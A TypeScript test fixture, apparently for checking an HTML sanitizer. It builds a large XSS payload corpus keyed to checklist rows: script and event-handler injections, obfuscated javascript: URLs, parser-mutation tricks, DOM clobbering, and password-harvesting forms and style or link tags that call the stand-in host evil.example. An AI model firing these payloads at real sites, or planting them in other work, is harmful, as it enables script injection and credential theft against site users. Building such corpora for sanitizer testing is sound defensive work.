// Attempts to run something on a page that shows them, go somewhere, or break it: one class of attack a row of the checklist,
// each in the ways that make a difference to a parser. What they run is `alert(1)`.
import { PAYLOADS as BODIES } from '../lib/payloads.ts';

type Payload = readonly [row: string, text: string];

const each = (row: string, texts: readonly string[]): Payload[] => texts.map((text) => [row, text]);

const HANDLERS = [
  ...[
    'onload',
    'onerror',
    'onclick',
    'onmouseover',
    'onfocus',
    'onblur',
    'ontoggle',
    'onanimationstart',
    'onanimationend',
  ],
  ...['ontransitionend', 'onpointerenter', 'onpointerrawupdate', 'onbeforetoggle', 'onscrollend', 'onscrollsnapchange'],
  ...['oncontentvisibilityautostatechange', 'onbeforematch', 'onsecuritypolicyviolation', 'onwebkittransitionend'],
  ...['onhashchange', 'onpageshow', 'onmessage', 'onunhandledrejection', 'onformdata', 'oninvalid', 'onfoo'],
].map((name) => `<p ${name}=alert(1) tabindex=0 style="animation:x 1s">${name}</p>`);

const LOADING = [
  ...[
    'img src=x',
    'image src=x',
    'img srcset="x 1x"',
    'video src=x',
    'audio src=x',
    'input type=image src=x',
    'embed src=x',
  ],
  ...[
    'object data=x',
    'link rel=stylesheet href=x',
    'script src=x',
    'track src=x default',
    'iframe src=x',
    'source src=x',
  ],
].flatMap((tag) => [`<${tag} onerror=alert(1)>`, `<${tag} onerror="alert&lpar;1)" onload='alert(1)'>`]);

const STARTING = [
  ...['<svg onload=alert(1)>', '<body onload=alert(1)>', '<details open ontoggle=alert(1)><summary>x</summary>'],
  ...[
    '<marquee onstart=alert(1)>x</marquee>',
    '<input autofocus onfocus=alert(1)>',
    '<select autofocus onfocus=alert(1)>',
  ],
  ...[
    '<textarea autofocus onfocus=alert(1)>',
    '<a autofocus tabindex=0 onfocus=alert(1)>x</a>',
    '<style onload=alert(1)>x{}</style>',
  ],
  ...[
    '<p popover id=p onbeforetoggle=alert(1)>x</p><button popovertarget=p autofocus>y',
    '<dialog open onclose=alert(1)>x',
  ],
  ...[
    '<video autoplay onloadstart=alert(1)><source src=x></video>',
    '<frameset onload=alert(1)>',
    '<xss style="display:block" onfocus=alert(1) autofocus tabindex=1>',
  ],
];

const SEPARATORS = [
  ...['/', '\n', '\t', '\f', '\r', ' / ', '/ /', '\u00a0', '\u000b', '\u0000', '"', "'", '`', '//x=', ' x="a" '],
].map((gap) => `<img${gap}src=x${gap}onerror=alert(1)${gap}>`);

const SCRIPTS = [
  ...[
    '<script>alert(1)</script>',
    '<ScRiPt>alert(1)</sCrIpT>',
    '<script >alert(1)</script >',
    '<script\n>alert(1)</script\t>',
  ],
  ...[
    '<script/x>alert(1)</script/x>',
    '<script/src=//evil.example/x.js></script>',
    '<script src="data:,alert(1)"></script>',
  ],
  ...[
    '<script type=module>alert(1)</script>',
    '<script type=text/javascript>alert(1)</script>',
    '<script nomodule>alert(1)</script>',
  ],
  ...[
    '<script>alert(1)',
    '<script>alert(1)//',
    '<<script>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
  ],
  ...[
    '<script<script>>alert(1)</script></script>',
    '<script x=">">alert(1)</script>',
    "<script x='>'>alert(1)</script>",
  ],
  ...[
    '<script\u0000>alert(1)</script>',
    '<\u0000script>alert(1)</script>',
    '<script>/*</script><script>*/alert(1)</script>',
  ],
  ...['<script><!--\nalert(1)</script>', '<script>//\u2028alert(1)</script>', '\ufeff<script>alert(1)</script>'],
  ...[
    '<svg><script>alert&#40;1)</script>',
    '<svg><script href="data:,alert(1)"/>',
    '<svg><script xlink:href=//evil.example/x />',
  ],
  ...['<script type="importmap">{"imports":{"x":"data:text/javascript,alert(1)"}}</script>'],
  ...['<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>'],
];

const OBFUSCATED_SCHEMES = [
  ...[
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    '\tjavascript:alert(1)',
    'java\tscript:alert(1)',
  ],
  ...[
    'java\nscript:alert(1)',
    'java\r\nscript:alert(1)',
    'javascript\n:alert(1)',
    '\u0001javascript:alert(1)',
    '\u001fjavascript:alert(1)',
  ],
  ...[
    'javascript&colon;alert(1)',
    'javascript&#58;alert(1)',
    'javascript&#x3a;alert(1)',
    'javascript&#0000058alert(1)',
  ],
  ...[
    '&#106;avascript:alert(1)',
    '&#x6A;avascript:alert(1)',
    'jav&Tab;ascript:alert(1)',
    'jav&NewLine;ascript:alert(1)',
  ],
  ...[
    '&bsol;javascript:alert(1)',
    'javascript://%0aalert(1)',
    'javascript://x.example/%0aalert(1)',
    'javascript:/*--></title></style>*/alert(1)',
  ],
  ...[
    '\u00a0javascript:alert(1)',
    '\u2028javascript:alert(1)',
    '\u3000javascript:alert(1)',
    'javascript\u200b:alert(1)',
    'view-source:javascript:alert(1)',
  ],
];

const LINKS = OBFUSCATED_SCHEMES.flatMap((url) => [`<a href="${url}">x</a>`, url]);

const OTHER_SCHEMES = [
  ...[
    'vbscript:alert(1)',
    'livescript:alert(1)',
    'mhtml:http://evil.example/!x',
    'mocha:alert(1)',
    'feed:javascript:alert(1)',
    'jar:http://evil.example/!/x',
    'blob:null/x',
    'filesystem:http://evil.example/x',
  ],
].map((url) => `<a href="${url}">x</a><iframe src="${url}"></iframe><form action="${url}"><button autofocus>x</form>`);

const DATA = [
  ...[
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    'data:application/xhtml+xml,<x/>',
    'data:,x',
    'DATA:text/html,x',
    'data:text/xml,<?xml-stylesheet href="x"?>',
  ],
].map((url) => `<a href='${url}'>x</a><img src='${url}'><iframe src='${url}'></iframe><object data='${url}'></object>`);

const BREAKOUTS = [
  ...[
    '"',
    "'",
    '">',
    "'>",
    '`>',
    '-->',
    '--!>',
    ']]>',
    '?>',
    '%>',
    '</title>',
    '</textarea>',
    '</style>',
    '</script>',
    '</noscript>',
  ],
  ...[
    '</template>',
    '</iframe>',
    '</xmp>',
    '</select>',
    '</svg>',
    '</math>',
    '</p></div></main></body></html>',
    '</head>',
    '\\">',
    "\\'>",
  ],
].flatMap((out) => [`${out}<script>alert(1)</script>`, `${out}<img src=x onerror=alert(1)>`]);

const ATTRIBUTES = [
  ...[
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
  ],
  ...[
    '` onmouseover=`alert(1)',
    '"onfocus=alert(1) autofocus ',
    'x" style="animation-name:x" onanimationstart="alert(1)',
    '" formaction="javascript:alert(1)',
  ],
];

const MUTATIONS: readonly Payload[] = [
  ...each('X08', [
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><style><img/src=x onerror=alert(1)></style>',
    '<svg><title><style><img src="</style><img src=x onerror=alert(1)//">',
    '<svg><desc><noscript></desc></svg><img src=x onerror=alert(1)>',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x"/>',
    '<svg><image href=x onerror=alert(1)>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject>',
  ]),
  ...each('X09', [
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)>',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>',
    '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x',
  ]),
  ...each('X18', [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<noframes><img title="</noframes><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    '<title><p title="</title><svg/onload=alert(1)>">',
    '<textarea><p title="</textarea><svg/onload=alert(1)>">',
    '<plaintext><img src=x onerror=alert(1)>',
    '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
    '<select><template><img src=x onerror=alert(1)></template></select>',
    '<select><style></select><img src=x onerror=alert(1)></style>',
  ]),
  ...each('X19', [
    '<!--><img src=x onerror=alert(1)>-->',
    '<!---><img src=x onerror=alert(1)>-->',
    '<!--x--!><img src=x onerror=alert(1)>-->',
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    '<![if !x]><img src=x onerror=alert(1)><![endif]>',
    '<!><img src=x onerror=alert(1)>',
    '<!doctype x [<!ENTITY y "z">]><img src=x onerror=alert(1)>',
    '</ x><img src=x onerror=alert(1)>',
    '<?x ><img src=x onerror=alert(1)>?>',
  ]),
  ...each('X20', [
    '<![CDATA[><img src=x onerror=alert(1)>]]>',
    '<svg><![CDATA[<]]>img src=x onerror=alert(1)>',
    'x]]><img src=x onerror=alert(1)><![CDATA[',
  ]),
  ...each('X21', [
    '<a title="',
    "<img alt='",
    '<p class=',
    '<!--',
    '<table><tr><td>',
    '<b'.repeat(50),
    '<div>'.repeat(300),
  ]),
  ...each('X22', [
    '</main></body></html>',
    '</div></div></div></article></main><h1>x</h1>',
    '</form><form action=//evil.example/>',
  ]),
];

const REST: readonly Payload[] = [
  ...each('X06', [
    '<iframe srcdoc="&lt;script>alert(1)&lt;/script>"></iframe>',
    '<iframe src=//evil.example/></iframe>',
    '<iframe srcdoc="<script>parent.alert(1)</script>">',
    '<fencedframe src=//evil.example/>',
    '<portal src=//evil.example/>',
    '<frame src=javascript:alert(1)>',
  ]),
  ...each('X07', [
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code=x>x</applet>',
    '<object type="text/html" data="//evil.example/"><param name=src value=x></object>',
  ]),
  ...each('X10', [
    '<style>@import "//evil.example/x.css";</style>',
    '<style>*{background:url(//evil.example/)}</style>',
    '<style></style/><img src=x onerror=alert(1)>',
    '<style>body{display:none}</style>',
  ]),
  ...each('X11', [
    '<p style="background:url(//evil.example/x)">x</p>',
    '<p style="position:fixed;inset:0;z-index:99999;background:red">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="behavior:url(//evil.example/x.htc);-moz-binding:url(//evil.example/)">x</p>',
  ]),
  ...each('X12', [
    '<p id="main" class="reactions comments skip">x</p>',
    '<p id="comments">x</p>',
    '<div class="article"><form id=say><textarea>x</textarea></form></div>',
  ]),
  ...each('X13', [
    '<img name=body>',
    '<form name=forms><input name=action><input name=submit></form>',
    '<a id=location href=//evil.example/>',
    '<form id=document><input name=cookie></form>',
    '<img name=getElementById>',
    '<iframe name=self>',
    '<a id=fetch><a id=fetch name=x href=x:y>',
  ]),
  ...each('X14', [
    '<form action=//evil.example/><input name=password type=password><button autofocus>Log in</button></form>',
    '<button formaction="javascript:alert(1)" autofocus>x</button>',
    '<input type=submit formaction=//evil.example/ form=say>',
    '<isindex action="javascript:alert(1)">',
  ]),
  ...each('X15', [
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    '<meta http-equiv="refresh" content="0;javascript:alert(1)">',
    '<meta http-equiv=set-cookie content="a=b">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  ]),
  ...each('X16', ['<base href=//evil.example/>', '<base target=_blank>', '<base href="javascript:alert(1)//">']),
  ...each('X17', [
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<link rel=preload as=script href=//evil.example/x.js>',
    '<link rel=dns-prefetch href=//evil.example/>',
    '<link rel=prerender href=//evil.example/>',
    '<link rel=modulepreload href=//evil.example/>',
    '<link rel=manifest href=//evil.example/>',
  ]),
  ...each('X23', [
    '<template shadowrootmode=open><script>alert(1)</script></template>',
    '<div><template shadowrootmode=open><slot onslotchange=alert(1)></slot></template>x</div>',
    '<x-y is=script>alert(1)</x-y>',
  ]),
  ...each('X24', [
    '<img srcset="//evil.example/a 1x, javascript:alert(1) 2x">',
    '<video poster=//evil.example/p.png></video>',
    '<table background=//evil.example/b.png><tr><td>x</table>',
    '<a href=https://ok.example/ ping=//evil.example/>x</a>',
    '<img longdesc="javascript:alert(1)" usemap="#x"><map name=x><area shape=default href="javascript:alert(1)"></map>',
    '<html manifest=//evil.example/>',
  ]),
  ...each('X25', [
    '<img src=//evil.example/x>',
    '<a href=//evil.example/>x</a>',
    '<a href="/\\evil.example/">x</a>',
    '<img src="\\\\evil.example\\x">',
  ]),
  ...each('X26', [
    '<a href="?done=said">x</a>',
    '<a href="#comments">x</a>',
    '<img src="/admin/comments/1/delete">',
    '<a href="../../admin/logout">x</a>',
  ]),
  ...each('X27', [
    '<a target=_blank href=https://ok.example/>x</a>',
    '<a target=main rel=opener href=https://ok.example/>x</a>',
  ]),
  ...each('X28', [
    '<img src=https://evil.example/p.gif width=1 height=1>',
    '<img src=https://evil.example/p.gif width=0 height=0>',
  ]),
  ...each('X29', [
    '\u202egnp.x\u202c <img src=x onerror=alert(1)>',
    'a\u0000\u200b\u2066<script>alert(1)</script>\u2069',
    `Z${'\u0301'.repeat(500)}`,
    '\u{e0001}\u{e0041}x',
    '\ufeff\ufffe\uffff',
  ]),
  ...each('X30', [
    '&lt;b onmouseover=alert(1)&gt;x&lt;/b&gt;',
    '<b>bold</b> & "quoted" \'text\' `tick`',
    '<marquee>x</marquee>',
  ]),
  ...each('X31', [
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
    '&#60;script&#62;alert(1)&#60;/script&#62;',
    '&#x3c;img src=x onerror=alert(1)&#x3e;',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
  ]),
  ...each('X32', [
    '<audio autoplay src=https://evil.example/a.mp3></audio>',
    '<p contenteditable autofocus accesskey=x draggable=true>x</p>',
    '<blink>x</blink><dialog open>x</dialog>',
  ]),
  ...each('X33', [
    '<a download href=https://ok.example/>x</a>',
    '<a href="intent://x#Intent;scheme=http;end">x</a>',
    '<a href="tel:1">x</a><a href="sms:1">x</a><a href="ms-word:ofe|u|x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
  ]),
  ...each('X34', [
    '<?xml-stylesheet type="text/xsl" href="//evil.example/x.xsl"?>',
    '<?php echo "<script>alert(1)</script>" ?>',
    '<meta charset=utf-7>',
  ]),
  ...each('X35', [
    '{{7*7}}',
    '{{constructor.constructor("alert(1)")()}}',
    '$\u007balert(1)}',
    '<%= alert(1) %>',
    '#{alert(1)}',
    '[[$\u007balert(1)}]]',
    '{% raw %}<script>alert(1)</script>',
  ]),
  ...each('X36', [
    '<svg><set attributeName=onload to=alert(1) /></svg>',
    '<svg><a xlink:href=#x><set attributeName=xlink:href to=javascript:alert(1) begin=0s /></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  ]),
  ...each('X37', [
    '<div xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></div>',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    '<html:script>alert(1)</html:script>',
  ]),
];

/** All of them, each once. */
export const XSS_PAYLOADS: readonly Payload[] = [
  ...new Map(
    [
      ...each('X01', SCRIPTS),
      ...each('X02', [...HANDLERS, ...LOADING, ...STARTING, ...SEPARATORS]),
      ...each('X03', LINKS),
      ...each('X04', OTHER_SCHEMES),
      ...each('X05', DATA),
      ...each('X30', [...BREAKOUTS, ...ATTRIBUTES]),
      ...MUTATIONS,
      ...REST,
      ...BODIES.map(([row, text]): Payload => [row, text.slice(0, 1000)]),
    ].map((payload) => [payload[1], payload]),
  ).values(),
];
